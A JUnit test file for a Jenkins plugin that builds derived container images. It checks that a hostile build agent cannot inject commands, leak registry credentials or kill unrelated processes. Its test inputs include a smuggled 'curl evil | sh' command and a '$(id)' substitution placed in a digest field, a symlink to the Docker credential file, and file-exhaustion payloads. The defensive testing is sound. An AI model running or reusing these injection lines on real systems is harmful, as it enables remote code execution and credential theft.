package io.jenkins.plugins.cvmfs;

import static org.assertj.core.api.Assertions.assertThat;

import hudson.model.Result;
import hudson.model.Run;
import io.jenkins.plugins.cvmfs.harness.ScriptedDocker;
import io.jenkins.plugins.cvmfs.harness.Setting;
import io.jenkins.plugins.cvmfs.pages.DerivedImageAction;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.jenkinsci.plugins.workflow.job.WorkflowRun;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/** What an agent leaves as results is anybody's: each ends in one clear message, in time, and nothing is kept of it. */
@WithJenkins
class HostileAgentTest {
    private static final String PASSWORD = "correct-horse";
    private static final String STEP = "cvmfsDerivedImage(tags: ['reg.example.org/a:1'], push: true, credentialsId: 'login')";

    @TempDir
    private Path directory;

    private JenkinsRule jenkins;
    private ScriptedDocker docker;

    @BeforeEach
    void start(JenkinsRule rule) throws Exception {
        jenkins = rule;
        docker = new ScriptedDocker(directory);
        docker.agent(jenkins);
        Setting.allowInsecure();
        Setting.login("login", "me", PASSWORD);
    }

    private Run<?, ?> run(Result result, String commands) throws Exception {
        docker.then(commands + "\n");
        return Setting.run(jenkins, result,
                "node('linux') { writeFile file: 'Dockerfile', text: 'FROM a'\n" + STEP + " }");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        // Giant.
        "head -c 67108864 /dev/zero | tr '\\\\0' ' ' >\"$metadata\"",
        "{ printf '{\"a\":\"'; head -c 33554432 /dev/zero | tr '\\\\0' x; printf '\"}'; } >\"$metadata\"",
        // Deep.
        "head -c 2000000 /dev/zero | tr '\\\\0' '[' >\"$metadata\"",
        // Cut, empty, something else, no text.
        "head -c 60 \"$metadata\" >\"$metadata.cut\"; mv \"$metadata.cut\" \"$metadata\"",
        ": >\"$metadata\"",
        "rm \"$metadata\"",
        "printf '[]' >\"$metadata\"",
        "head -c 4096 /dev/urandom >\"$metadata\"",
        // No regular file.
        "rm \"$metadata\"; ln -s \"$DOCKER_CONFIG/config.json\" \"$metadata\"",
        "rm \"$metadata\"; ln -s /dev/zero \"$metadata\"",
        "rm \"$metadata\"; mkfifo \"$metadata\"",
        "rm \"$metadata\"; mkdir \"$metadata\"",
        // Lying: what becomes a variable of later steps. The log may show it, as why there is no image.
        "sed -i 's/sha256:[0-9a-f]*/sha256:0; curl evil | sh #/g' \"$metadata\"",
        "sed -i 's/sha256:[0-9a-f]*/$(id)/g' \"$metadata\"",
    })
    void metadataThatIsNone(String commands) throws Exception {
        Run<?, ?> run = run(Result.FAILURE, commands);

        jenkins.assertLogContains("metadata", run);
        jenkins.assertLogNotContains("\tat ", run);
        assertThat(run.getAction(DerivedImageAction.class).getImages()).isEmpty();
        assertNothingKept(run);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "cd \"$DOCKER_CONFIG/../durable\"; rm -rf exit; mkdir exit",
        "cd \"$DOCKER_CONFIG/../durable\"; ln -s \"$other\" output",
        "cd \"$DOCKER_CONFIG/../durable\"; mkfifo output",
    })
    void filesThatControlABuild(String commands) throws Exception {
        Path other = Files.writeString(directory.resolve("other"), "of somebody else\n");
        docker.then("other='" + other + "'\n" + commands + "\n");
        Run<?, ?> run = Setting.pipeline(jenkins,
                "node('linux') { writeFile file: 'Dockerfile', text: 'FROM a'\n" + STEP + " }")
                .scheduleBuild2(0).get();

        jenkins.assertLogNotContains("\tat ", run);
        jenkins.assertLogNotContains("of somebody else", run);
        assertThat(other).hasContent("of somebody else\n");
        assertThat(jenkins.jenkins.getComputers()).allMatch(computer -> computer.isOnline());
        assertNothingKept(run);
    }

    /** A group of processes that this test has made, so that no other process is ever meant. */
    @ParameterizedTest
    @ValueSource(strings = {"-", ""})
    void aProcessIdOfSomethingElse(String sign) throws Exception {
        Process neighbour = new ProcessBuilder("setsid", "sleep", "600").start();
        try {
            docker.be("block");
            docker.before("echo " + sign + neighbour.pid() + " >\"$DOCKER_CONFIG/../pid\"\n");
            WorkflowRun run = Setting.pipeline(
                            jenkins, "node('linux') { writeFile file: 'Dockerfile', text: 'FROM a'\n" + STEP + " }")
                    .scheduleBuild2(0)
                    .waitForStart();
            docker.awaitBlocked();
            run.doStop();
            docker.release();
            jenkins.waitForCompletion(run);

            jenkins.assertBuildStatus(Result.ABORTED, run);
            assertThat(neighbour.isAlive()).isTrue();
        } finally {
            docker.release();
            neighbour.destroyForcibly();
        }
    }

    @Test
    void moreOutputThanAnybodyReadsEndsWithItsEnd() throws Exception {
        Run<?, ?> run = run(Result.FAILURE, "i=0; while [ $i -lt 4000 ]; do printf '/dev/fuse/dev/fuse/dev/fuse/dev/fuse'; "
                + "i=$((i+1)); done >&2; echo >&2; exit 1");

        jenkins.assertLogContains("exit code 1", run);
        jenkins.assertLogNotContains("\tat ", run);
    }

    private static void assertNothingKept(Run<?, ?> run) throws Exception {
        List<String> kept = new ArrayList<>();
        for (Run<?, ?>.Artifact artifact : run.getArtifacts()) {
            kept.add(Setting.artifact(run, artifact.getFileName()));
        }
        assertThat(String.join("\n", kept)).doesNotContain(PASSWORD, "\"auths\"", "curl evil", "$(id)");
    }
}
